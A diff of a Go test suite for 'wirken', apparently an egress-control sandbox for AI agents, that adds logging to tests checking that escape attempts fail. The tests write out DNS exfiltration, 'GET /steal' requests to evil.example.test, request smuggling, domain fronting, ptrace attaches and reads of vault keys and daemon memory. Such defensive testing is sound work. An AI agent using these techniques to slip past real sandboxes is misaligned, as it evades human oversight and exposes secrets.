@@ -122,6 +122,13 @@ func TestEscapes(t *testing.T) {
 	e := newEnv(t)
 	wirkenCA := e.wirkenCAName(t)
 	const upstreamCA = "wirken e2e upstream CA"
+	// esc runs one attempt as the agent and logs what it saw (the suite's outcome table).
+	esc := func(t *testing.T, args ...string) escapeResult {
+		t.Helper()
+		r := e.escape(args...)
+		t.Logf("%s %.60q: errno %d (%s) %.160q", args[0], args[1:], r.Errno, r.Err, r.Detail)
+		return r
+	}
 	// expectFail checks that an attempt failed (with want, unless 0) and reached no upstream.
 	expectFail := func(t *testing.T, what string, r escapeResult, want unix.Errno) {
 		t.Helper()
@@ -141,7 +148,7 @@ func TestEscapes(t *testing.T) {
 		denied := len(e.records("dns.deny"))
 		// Nothing listens on 127.0.0.4:53: only wirken's resolver (DNS is steered) answers.
 		for _, suffix := range []string{"exfil.example.test", "api.example.test"} {
-			r := e.escape("dns-many", "127.0.0.4:53", suffix, strconv.Itoa(n))
+			r := esc(t, "dns-many", "127.0.0.4:53", suffix, strconv.Itoa(n))
 			if r.Errno != 0 || r.Detail != fmt.Sprintf(`{"NXDOMAIN":%d}`, n) {
 				t.Errorf("%d unique long names under %s: %+v; want NXDOMAIN for each", n, suffix, r)
 			}
@@ -176,7 +183,7 @@ func TestEscapes(t *testing.T) {
 			{"TLS with another host's name", proxy, "evil.example.test", "GET /steal HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"},
 			{"v4-mapped, forged headers", mapped, "-", forged},
 		} {
-			r := e.escape("raw", tc.addr, tc.sni, tc.payload)
+			r := esc(t, "raw", tc.addr, tc.sni, tc.payload)
 			if r.Detail != "" {
 				t.Errorf("%s: the proxy answered %q; want the connection reset", tc.name, r.Detail)
 			}
@@ -197,7 +204,7 @@ func TestEscapes(t *testing.T) {
 			{"fake CONNECT", "127.0.0.3:80", "CONNECT evil.example.test:443 HTTP/1.1\r\nHost: evil.example.test:443\r\nConnection: close\r\n\r\n", "HTTP/1.1 403"},
 		} {
 			denied := len(e.records("request.deny"))
-			r := e.escape("raw", tc.addr, "-", tc.payload)
+			r := esc(t, "raw", tc.addr, "-", tc.payload)
 			if r.Errno != 0 || !strings.HasPrefix(r.Detail, tc.want) || !strings.Contains(r.Detail, "wirken: ") {
 				t.Errorf("%s via %s: %+v; want %s with a wirken: reason", tc.name, tc.addr, r, tc.want)
 			}
@@ -207,7 +214,7 @@ func TestEscapes(t *testing.T) {
 		}
 		// A PROXY protocol header is not HTTP: refused before anything is parsed.
 		denied := len(e.records("conn.deny")) + len(e.records("request.deny"))
-		r := e.escape("raw", "127.0.0.3:443", "-", "PROXY TCP4 127.0.0.2 127.0.0.2 40000 443\r\nGET /echo HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
+		r := esc(t, "raw", "127.0.0.3:443", "-", "PROXY TCP4 127.0.0.2 127.0.0.2 40000 443\r\nGET /echo HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
 		if strings.Contains(r.Detail, "200 OK") {
 			t.Errorf("PROXY line through the proxy: %+v", r)
 		}
@@ -218,14 +225,14 @@ func TestEscapes(t *testing.T) {
 		// The resolver's port: over UDP it is the agent's own resolver (the policy applies);
 		// over TCP, unsteered, it answers nothing.
 		res := fmt.Sprintf("127.0.0.1:%d", e.dnsPort)
-		if r := e.escape("dns-udp", res, "evil.example.test", "connected"); r.Errno != 0 || !strings.HasPrefix(r.Detail, "NXDOMAIN ") {
+		if r := esc(t, "dns-udp", res, "evil.example.test", "connected"); r.Errno != 0 || !strings.HasPrefix(r.Detail, "NXDOMAIN ") {
 			t.Errorf("UDP straight to the resolver port: %+v; want NXDOMAIN", r)
 		}
 		if e.waitRecord("dns.deny", byAgent(map[string]string{"host": "evil.example.test"})) == nil {
 			t.Error("no dns.deny record for the query straight to the resolver port")
 		}
 		tcpRefused := len(e.records("dns.deny"))
-		if r := e.escape("dns-tcp", res, "api.example.test"); r.Errno == 0 {
+		if r := esc(t, "dns-tcp", res, "api.example.test"); r.Errno == 0 {
 			t.Errorf("TCP straight to the resolver port answered: %+v", r)
 		}
 		if e.waitRecord("dns.deny", func(m map[string]any) bool {
@@ -238,7 +245,7 @@ func TestEscapes(t *testing.T) {
 	t.Run("the control socket", func(t *testing.T) {
 		sock := filepath.Join(e.dir, "control.sock")
 		for _, req := range []string{`{"op":"reload"}`, `{"op":"agents"}`} {
-			expectFail(t, "control socket "+req, e.escape("unix", sock, req), unix.EACCES)
+			expectFail(t, "control socket "+req, esc(t, "unix", sock, req), unix.EACCES)
 		}
 		for _, cmd := range []string{"reload", "status"} {
 			r := e.asAgent(wirkenBin, cmd)
@@ -261,7 +268,7 @@ func TestEscapes(t *testing.T) {
 				continue
 			}
 			p := filepath.Join(state, ent.Name())
-			expectFail(t, "reading "+p, e.escape("read", p), unix.EACCES)
+			expectFail(t, "reading "+p, esc(t, "read", p), unix.EACCES)
 			tried[ent.Name()] = true
 		}
 		for _, want := range []string{"vault.wkv", "vault.key", "ca-key.pem", "audit.jsonl"} {
@@ -269,7 +276,7 @@ func TestEscapes(t *testing.T) {
 				t.Errorf("%s is not in %s (have %v): the check would prove nothing", want, state, tried)
 			}
 		}
-		if r := e.escape("read", filepath.Join(state, "ca-bundle.pem")); r.Errno != 0 {
+		if r := esc(t, "read", filepath.Join(state, "ca-bundle.pem")); r.Errno != 0 {
 			t.Errorf("the public CA bundle is unreadable to the agent (%+v): the check above proves nothing", r)
 		}
 	})
@@ -278,10 +285,10 @@ func TestEscapes(t *testing.T) {
 		e.daemonMu.Lock()
 		pid := strconv.Itoa(e.daemon.Process.Pid)
 		e.daemonMu.Unlock()
-		expectFail(t, "PTRACE_ATTACH", e.escape("ptrace", pid), unix.EPERM)
-		expectFail(t, "process_vm_readv", e.escape("vm-readv", pid, "400000"), unix.EPERM)
+		expectFail(t, "PTRACE_ATTACH", esc(t, "ptrace", pid), unix.EPERM)
+		expectFail(t, "process_vm_readv", esc(t, "vm-readv", pid, "400000"), unix.EPERM)
 		for _, f := range []string{"mem", "environ", "maps", "auxv"} {
-			expectFail(t, "/proc/daemon/"+f, e.escape("read", "/proc/"+pid+"/"+f), unix.EACCES)
+			expectFail(t, "/proc/daemon/"+f, esc(t, "read", "/proc/"+pid+"/"+f), unix.EACCES)
 		}
 	})
 
@@ -293,7 +300,7 @@ func TestEscapes(t *testing.T) {
 		os.Chmod(dir, 0o777)
 		out := filepath.Join(dir, "daemon.json")
 		before := len(e.api.seen())
-		if r := e.escape("daemonize", out, "https://api.example.test/echo"); r.Errno != 0 {
+		if r := esc(t, "daemonize", out, "https://api.example.test/echo"); r.Errno != 0 {
 			t.Fatalf("daemonizing: %+v", r)
 		}
 		var res escapeResult
@@ -330,7 +337,7 @@ func TestEscapes(t *testing.T) {
 	t.Run("io_uring connect", func(t *testing.T) {
 		disabled, _ := os.ReadFile("/proc/sys/kernel/io_uring_disabled")
 		t.Logf("kernel.io_uring_disabled = %q", strings.TrimSpace(string(disabled)))
-		r := e.escape("uring", "127.0.0.3:443", "evil.example.test")
+		r := esc(t, "uring", "127.0.0.3:443", "evil.example.test")
 		expectFail(t, "io_uring connect to the host with no rule", r, 0)
 		if v := strings.TrimSpace(string(disabled)); v != "" && v != "0" {
 			// Not for unprivileged users here: setup itself is refused.
@@ -346,7 +353,7 @@ func TestEscapes(t *testing.T) {
 			t.Error("no conn.deny record for the io_uring connect")
 		}
 		// To an allowed host: steered, like any connect.
-		if r := e.escape("uring", "127.0.0.2:443", "api.example.test"); r.Errno != 0 || r.Detail != wirkenCA {
+		if r := esc(t, "uring", "127.0.0.2:443", "api.example.test"); r.Errno != 0 || r.Detail != wirkenCA {
 			t.Errorf("io_uring connect to the allowed host: %+v; want wirken's certificate (%q)", r, wirkenCA)
 		}
 	})
@@ -365,10 +372,10 @@ func TestEscapes(t *testing.T) {
 			{"sendmmsg to 443 (v6)", []string{"sendmmsg", "[2001:db8::1]:443"}},
 			{"sendmmsg to a high port", []string{"sendmmsg", "127.0.0.3:4433"}},
 		} {
-			expectFail(t, tc.name, e.escape(tc.args...), unix.EPERM)
+			expectFail(t, tc.name, esc(t, tc.args...), unix.EPERM)
 		}
 		// The same call to port 53 goes (to wirken's resolver): the refusals above are the hook's.
-		if r := e.escape("sendmmsg", "127.0.0.4:53"); r.Errno != 0 || r.Detail != "2 sent" {
+		if r := esc(t, "sendmmsg", "127.0.0.4:53"); r.Errno != 0 || r.Detail != "2 sent" {
 			t.Errorf("sendmmsg to port 53: %+v; want both sent", r)
 		}
 		time.Sleep(200 * time.Millisecond)
@@ -396,7 +403,7 @@ func TestEscapes(t *testing.T) {
 	})
 
 	t.Run("TCP Fast Open", func(t *testing.T) {
-		r := e.escape("tfo-sendto", "127.0.0.3:443", "GET /steal HTTP/1.1\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n")
+		r := esc(t, "tfo-sendto", "127.0.0.3:443", "GET /steal HTTP/1.1\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n")
 		if strings.Contains(r.Detail, "200 OK") || (r.Errno == 0 && !strings.HasPrefix(r.Detail, "HTTP/1.1 403")) {
 			t.Errorf("sendto MSG_FASTOPEN to the host with no rule: %+v; want a 403 or a reset", r)
 		}
@@ -404,8 +411,8 @@ func TestEscapes(t *testing.T) {
 			e.waitRecord("conn.deny", byAgent(map[string]string{"dst": "127.0.0.3:443"})) == nil {
 			t.Error("no refusal record for the MSG_FASTOPEN attempt")
 		}
-		expectFail(t, "TCP_FASTOPEN_CONNECT to the host with no rule", e.escape("tfo-connect", "127.0.0.3:443", "evil.example.test"), 0)
-		if r := e.escape("tfo-connect", "127.0.0.2:443", "api.example.test"); r.Errno != 0 || r.Detail != wirkenCA {
+		expectFail(t, "TCP_FASTOPEN_CONNECT to the host with no rule", esc(t, "tfo-connect", "127.0.0.3:443", "evil.example.test"), 0)
+		if r := esc(t, "tfo-connect", "127.0.0.2:443", "api.example.test"); r.Errno != 0 || r.Detail != wirkenCA {
 			t.Errorf("TCP_FASTOPEN_CONNECT to the allowed host: %+v; want wirken's certificate (%q)", r, wirkenCA)
 		}
 	})
@@ -428,7 +435,7 @@ func TestEscapes(t *testing.T) {
 			t.Run(tc.name, func(t *testing.T) {
 				upBefore, useBefore := len(e.api.seen()), len(e.records("credential.use"))
 				refusals := len(e.records("request.deny")) + len(e.records("conn.deny"))
-				r := e.escape("raw", "127.0.0.2:443", "api.example.test", tc.payload)
+				r := esc(t, "raw", "127.0.0.2:443", "api.example.test", tc.payload)
 				if !strings.HasPrefix(r.Detail, tc.want) || (tc.want == "" && r.Detail != "") || strings.Contains(r.Detail, "200 OK") {
 					t.Errorf("got %+v; want %s... and nothing else", r, tc.want)
 				}
@@ -442,7 +449,7 @@ func TestEscapes(t *testing.T) {
 		}
 		t.Run("pipelined: each request decided and audited", func(t *testing.T) {
 			upBefore, useBefore, denyBefore := len(e.api.seen()), len(e.records("credential.use")), len(e.records("request.deny"))
-			r := e.escape("raw", "127.0.0.2:443", "api.example.test",
+			r := esc(t, "raw", "127.0.0.2:443", "api.example.test",
 				"GET /echo?smuggled=pipe1 HTTP/1.1\r\nHost: api.example.test\r\n\r\n"+
 					"GET /admin?smuggled=pipe2 HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
 			if !strings.HasPrefix(r.Detail, "HTTP/1.1 200") || !strings.Contains(r.Detail, "HTTP/1.1 403") {
@@ -466,7 +473,7 @@ func TestEscapes(t *testing.T) {
 
 	t.Run("Host/SNI mismatch and domain fronting", func(t *testing.T) {
 		denied := len(e.records("request.deny"))
-		r := e.escape("raw", "127.0.0.2:443", "api.example.test", "GET /echo HTTP/1.1\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n")
+		r := esc(t, "raw", "127.0.0.2:443", "api.example.test", "GET /echo HTTP/1.1\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n")
 		if !strings.HasPrefix(r.Detail, "HTTP/1.1 403") {
 			t.Errorf("SNI api.example.test, Host evil.example.test: %+v; want 403", r)
 		}
@@ -475,7 +482,7 @@ func TestEscapes(t *testing.T) {
 		}) == nil || len(e.records("request.deny")) == denied {
 			t.Error("no request.deny record for the fronted request")
 		}
-		r = e.escape("raw", "127.0.0.2:443", "evil.example.test", "GET /echo HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
+		r = esc(t, "raw", "127.0.0.2:443", "evil.example.test", "GET /echo HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n")
 		expectFail(t, "SNI evil.example.test, Host api.example.test", r, 0)
 		if e.waitRecord("conn.deny", byAgent(map[string]string{"host": "evil.example.test"})) == nil {
 			t.Error("no conn.deny record for the TLS name with no rule")
@@ -486,7 +493,7 @@ func TestEscapes(t *testing.T) {
 		reflected := reflectingUpstream(t, "127.0.0.6:443", e.upCA.leaf(t, "api.example.test"))
 		e.dnsUp.set("api.example.test", "127.0.0.6")
 		defer e.dnsUp.set("api.example.test", "127.0.0.2")
-		r := e.escape("fetch", "https://api.example.test/echo/reflect")
+		r := esc(t, "fetch", "https://api.example.test/echo/reflect")
 		if r.Errno != 0 || !strings.Contains(r.Detail, "status=200") || reflected.Load() != 1 {
 			t.Fatalf("fetch through the reflecting upstream: %+v (it served %d)", r, reflected.Load())
 		}
